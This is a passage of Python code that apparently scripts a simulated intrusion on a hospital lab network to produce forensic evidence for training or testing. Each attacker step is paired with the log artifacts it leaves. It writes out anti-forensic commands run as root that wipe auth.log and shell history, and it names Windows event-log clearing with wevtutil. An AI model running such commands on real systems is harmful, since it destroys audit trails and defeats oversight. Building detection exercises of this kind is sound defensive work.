        as_root(at(23, "06:40:51"), ("bash", "-c", "truncate -s 0 /var/log/auth.log; history -c; rm -f /root/.bash_history"),
                  exe="/usr/bin/bash"),
        as_root(at(23, "06:40:51", ms=3), ("truncate", "-s", "0", "/var/log/auth.log"), exe="/usr/bin/truncate"),
        LogTruncated(ES01, "auth", at(23, "06:40:51", ms=4)),
    ),
    evidence=(
        ev(source="evtx", host=list(WIN_HOSTS), channel=CH["sysmon"], event_id=1, field="CommandLine",
           contains="wevtutil.exe  cl Security"),
        ev(source="evtx", host=list(WIN_HOSTS), channel="Security", event_id=1102),
        ev(source="evtx", host=list(WIN_HOSTS), channel="System", event_id=104),
        ev(source="audit.log", host=ES01, type="EXECVE", contains="history -c",
           also="auth.log holds nothing between 06:25 (rotation) and the truncation"),
    ),
)  # fmt: skip

STEP_21 = Step(
    21, "Impact noticed: the lab application cannot reach SQL", (),
    actions=tuple(
        Event(LIS, "app", 3001, at(23, "06:30:12") + timedelta(minutes=3 * i), provider="lab", level=2,
              system={"qualifiers": 0, "keywords": 0x80000000000000}, data={"Data": (
                  f"LabConnect: result upload failed for batch LR-2022-11-23-{i:04d}: cannot connect to SQL Server "
                  "EHOSP-DB01 (10.10.2.11,1433). A network-related or instance-specific error occurred while "
                  "establishing a connection to SQL Server.")})
        for i in range(11)
    ),
    evidence=(ev(source="evtx", host=LIS, channel="Application", event_id=3001, contains="cannot connect to SQL"),),
)  # fmt: skip

# the whole incident, in the order it is played (the background comes first; see background.py)
SCENE = (
    STEP_1, STEP_2, STEP_3, STEP_4, STEP_5, STEP_6, CLIPBOARD, STEP_7, STEP_8, STEP_9, LOGOFF, STEP_10, STEP_11,
    STEP_12, DC_SHELL, STEP_13, STEP_14, STEP_15, STEP_16, STEP_17, STEP_18, STEP_19, STEP_20, STEP_21,
)  # fmt: skip
STEPS = tuple(s for s in SCENE if isinstance(s, Step))
